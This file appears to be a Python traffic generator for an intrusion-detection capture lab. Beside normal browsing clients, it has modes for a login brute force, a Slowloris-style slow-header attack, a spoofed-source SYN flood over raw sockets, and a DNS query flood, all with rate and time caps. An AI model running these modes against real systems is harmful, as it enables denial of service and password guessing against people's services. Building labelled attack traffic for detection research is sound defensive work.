#!/usr/bin/env python3
"""Traffic for scripts/capture-attacks that no Debian tool makes the way we need it, every run bounded in count and time.

  traffic.py busy     --src IP --dst IP [--port 80] --rate N --seconds S   HTTP GETs, a new connection each (a busy client)
  traffic.py browse   --src IP --dst IP [--port 80] --seconds S            pages at a browsing pace, keep-alive sessions
  traffic.py login    --src IP --dst IP [--port 80] --rate N --count C     POST /login with guessed passwords (brute force)
  traffic.py slow     --src IP --dst IP [--port 80] --connections N --seconds S [--interval S]   slow HTTP (headers
                      trickled, never finished)
  traffic.py spoofsyn --dst IP [--port 80] --net 10.203.0.0/16 --rate N --count C   SYN from random addresses of --net
                      (a range that exists only inside the namespaces; raw socket, needs root)
  traffic.py dns      --src IP --dst IP [--port 53] --rate N --seconds S   small UDP queries, each answered (with dnsecho)
  traffic.py dnsecho  --bind IP [--port 53] --seconds S                    answers each datagram (the victim's resolver)
"""
import argparse
import ipaddress
import random
import socket
import struct
import sys
import threading
import time


def http_get(src, dst, port, path="/", keep=None):
    s = socket.create_connection((dst, port), timeout=5, source_address=(src, 0))
    try:
        s.sendall(("GET %s HTTP/1.1\r\nHost: victim\r\nUser-Agent: ids-capture\r\nConnection: close\r\n\r\n" % path).encode())
        while s.recv(65536):
            pass
    finally:
        s.close()


def paced(rate, count=None, seconds=None):
    """Yields at `rate` per second until `count` or `seconds` is reached."""
    start = time.monotonic()
    i = 0
    while (count is None or i < count) and (seconds is None or time.monotonic() - start < seconds):
        due = start + i / rate
        now = time.monotonic()
        if due > now:
            time.sleep(due - now)
        yield i
        i += 1


def busy(a):
    # a few threads so that a slow answer does not hold the pace
    errors = [0]

    def one(i):
        try:
            http_get(a.src, a.dst, a.port, "/page%d.html" % (i % 20))
        except OSError:
            errors[0] += 1

    threads = []
    for i in paced(a.rate, seconds=a.seconds):
        t = threading.Thread(target=one, args=(i,), daemon=True)
        t.start()
        threads.append(t)
        threads = [t for t in threads if t.is_alive()]
    for t in threads:
        t.join(5)
    print("busy: errors %d" % errors[0], file=sys.stderr)


def browse(a):
    rnd = random.Random(7)
    end = time.monotonic() + a.seconds
    while time.monotonic() < end:
        # one visit: a connection kept alive for a page and its few resources, then reading time
        try:
            s = socket.create_connection((a.dst, a.port), timeout=5, source_address=(a.src, 0))
            for j in range(rnd.randint(2, 6)):
                s.sendall(("GET /page%d.html HTTP/1.1\r\nHost: victim\r\n\r\n" % rnd.randint(0, 19)).encode())
                s.recv(65536)
                time.sleep(rnd.uniform(0.02, 0.2))
            s.close()
        except OSError:
            pass
        time.sleep(rnd.uniform(0.2, 1.5))


def login(a):
    fails = 0
    for i in paced(a.rate, count=a.count):
        body = "user=admin&password=guess%05d" % i
        try:
            s = socket.create_connection((a.dst, a.port), timeout=5, source_address=(a.src, 0))
            s.sendall(("POST /login HTTP/1.1\r\nHost: victim\r\nContent-Type: application/x-www-form-urlencoded\r\n"
                       "Content-Length: %d\r\nConnection: close\r\n\r\n%s" % (len(body), body)).encode())
            while s.recv(65536):
                pass
            s.close()
        except OSError:
            fails += 1
    print("login: connection errors %d" % fails, file=sys.stderr)


def slow(a):
    conns = []
    for i in range(a.connections):
        try:
            s = socket.create_connection((a.dst, a.port), timeout=5, source_address=(a.src, 0))
            s.sendall(b"GET /?%d HTTP/1.1\r\nHost: victim\r\n" % i)
            conns.append(s)
        except OSError:
            pass
        time.sleep(0.05)
    end = time.monotonic() + a.seconds
    n = 0
    while time.monotonic() < end and conns:
        time.sleep(a.interval)
        n += 1
        for s in list(conns):
            try:
                s.sendall(b"X-a%d: b\r\n" % n)
            except OSError:
                conns.remove(s)
    for s in conns:
        s.close()


def checksum(data):
    if len(data) % 2:
        data += b"\0"
    s = sum(struct.unpack("!%dH" % (len(data) // 2), data))
    s = (s >> 16) + (s & 0xFFFF)
    s += s >> 16
    return ~s & 0xFFFF


def spoofsyn(a):
    net = ipaddress.ip_network(a.net)
    if not net.is_private:
        sys.exit("spoofsyn: --net must be a private range that exists only inside your namespaces")
    dst = socket.inet_aton(a.dst)
    sock = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    rnd = random.Random(11)
    size = net.num_addresses
    for i in paced(a.rate, count=a.count):
        src = socket.inet_aton(str(net.network_address + rnd.randrange(1, size - 1)))
        sport = rnd.randrange(1024, 65535)
        seq = rnd.getrandbits(32)
        tcp = struct.pack("!HHIIBBHHH", sport, a.port, seq, 0, 5 << 4, 0x02, 64240, 0, 0)
        pseudo = src + dst + struct.pack("!BBH", 0, socket.IPPROTO_TCP, len(tcp))
        tcp = tcp[:16] + struct.pack("!H", checksum(pseudo + tcp)) + tcp[18:]
        ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(tcp), rnd.getrandbits(16), 0, 64, socket.IPPROTO_TCP, 0,
                         src, dst)
        ip = ip[:10] + struct.pack("!H", checksum(ip)) + ip[12:]
        sock.sendto(ip + tcp, (a.dst, 0))


def dns(a):
    rnd = random.Random(5)
    for i in paced(a.rate, seconds=a.seconds):
        q = struct.pack("!HHHHHH", rnd.getrandbits(16), 0x0100, 1, 0, 0, 0) + b"\x07example\x03org\x00\x00\x01\x00\x01"
        # a new source port per query, as the stub resolvers of glibc and systemd use
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
            s.bind((a.src, 0))
            s.settimeout(1)
            s.sendto(q, (a.dst, a.port))
            try:
                s.recv(512)
            except OSError:
                pass


def dnsecho(a):
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.bind((a.bind, a.port))
    s.settimeout(1)
    end = time.monotonic() + a.seconds
    while time.monotonic() < end:
        try:
            q, peer = s.recvfrom(512)
        except OSError:
            continue
        s.sendto(q[:2] + b"\x81\x80" + q[4:] + b"\xc0\x0c\x00\x01\x00\x01\x00\x00\x0e\x10\x00\x04\x0a\xe7\x00\x01",
                 peer)


def main():
    p = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    p.add_argument("mode", choices=["busy", "browse", "login", "slow", "spoofsyn", "dns", "dnsecho"])
    p.add_argument("--src")
    p.add_argument("--dst")
    p.add_argument("--bind")
    p.add_argument("--port", type=int)
    p.add_argument("--rate", type=float, default=10)
    p.add_argument("--count", type=int, default=100)
    p.add_argument("--seconds", type=float, default=10)
    p.add_argument("--connections", type=int, default=50)
    p.add_argument("--interval", type=float, default=10)
    p.add_argument("--net", default="10.203.0.0/16")
    a = p.parse_args()
    if a.port is None:
        a.port = 53 if a.mode in ("dns", "dnsecho") else 80
    if a.rate <= 0 or a.rate > 5000 or a.count > 100000 or a.seconds > 1200:
        sys.exit("traffic.py: bounds: --rate 0..5000, --count <= 100000, --seconds <= 1200")
    globals()[a.mode](a)


if __name__ == "__main__":
    main()
